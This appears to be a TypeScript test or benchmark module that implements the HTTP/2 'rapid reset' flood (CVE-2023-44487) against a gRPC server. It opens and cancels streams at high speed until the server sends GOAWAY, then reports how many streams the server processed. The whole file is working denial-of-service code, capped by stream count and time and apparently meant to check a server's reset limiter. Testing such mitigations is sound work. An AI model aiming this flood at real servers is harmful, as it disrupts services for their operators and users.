import { connect, constants as h2 } from 'node:http2';
import { setImmediate as nextTurn } from 'node:timers/promises';

// A "rapid reset" attacker (CVE-2023-44487) for tests and benchmarks: one
// HTTP/2 connection on which streams are opened and reset at once, as fast as
// the client can write them, until the server answers with GOAWAY.

export interface FloodOptions {
  /** The gRPC method the streams name, e.g. /etcdserverpb.KV/Range. */
  readonly path: string;
  /** A gRPC-framed request sent on each stream before its reset, so the server starts the call; none: HEADERS and RST_STREAM only. */
  readonly body?: Buffer;
  /** Stops after this many streams even without a GOAWAY. */
  readonly maxStreams: number;
  /** Stops after this long even without a GOAWAY. */
  readonly maxMs: number;
}

export interface FloodResult {
  /** Streams opened and reset on the connection. */
  readonly streams: number;
  /** Of these, the ones the server took before it stopped: its GOAWAY's last stream id says which. */
  readonly processed: number;
  /** The GOAWAY's error code (2: INTERNAL_ERROR is nghttp2's reset limiter), or null: none came. */
  readonly goawayCode: number | null;
  /** From the connection's start until the GOAWAY arrived, or until the flood gave up. */
  readonly ms: number;
}

interface Goaway {
  readonly code: number;
  readonly lastStreamId: number;
  readonly at: number;
}

/** Streams written between two turns of the event loop: enough to keep the socket busy, few enough to notice a GOAWAY soon. */
const STREAMS_PER_TURN = 100;

/** Wraps a protobuf message as one gRPC message (uncompressed, 4-byte length). */
export function grpcFrame(message: Uint8Array): Buffer {
  const frame = Buffer.alloc(5 + message.length);
  frame.writeUInt32BE(message.length, 1);
  frame.set(message, 5);
  return frame;
}

/** Floods one connection to `address` ("host:port", h2c) with HEADERS(+DATA)+RST_STREAM(CANCEL). */
export async function floodResets(address: string, options: FloodOptions): Promise<FloodResult> {
  const session = connect(`http://${address}`);
  session.on('error', () => undefined); // the GOAWAY is the result; a reset socket after it is no news
  const started = Date.now();
  // Boxed: the listener sets it, and the loop below must not see it narrowed to its initial null.
  const seen: { goaway: Goaway | null } = { goaway: null };
  session.on('goaway', (code: number, lastStreamId: number) => {
    seen.goaway ??= { code, lastStreamId, at: Date.now() };
  });
  await new Promise<void>((resolve, reject) => {
    session.once('connect', () => resolve());
    session.once('error', reject);
  });
  const headers = { ':method': 'POST', ':path': options.path, 'content-type': 'application/grpc', te: 'trailers' };
  let streams = 0;
  while (seen.goaway === null && !session.closed && streams < options.maxStreams && Date.now() - started < options.maxMs) {
    for (let i = 0; i < STREAMS_PER_TURN && !session.closed && seen.goaway === null; i += 1) {
      const stream = session.request(headers, { endStream: options.body === undefined });
      stream.on('error', () => undefined);
      if (options.body !== undefined) stream.end(options.body);
      stream.close(h2.NGHTTP2_CANCEL);
      streams += 1;
    }
    await nextTurn();
  }
  session.destroy();
  const ended = seen.goaway;
  return {
    streams,
    // Client stream ids are odd: 1, 3, 5... so the id of the n-th stream is 2n - 1.
    processed: ended === null ? streams : Math.floor((ended.lastStreamId + 1) / 2),
    goawayCode: ended === null ? null : ended.code,
    ms: (ended === null ? Date.now() : ended.at) - started,
  };
}
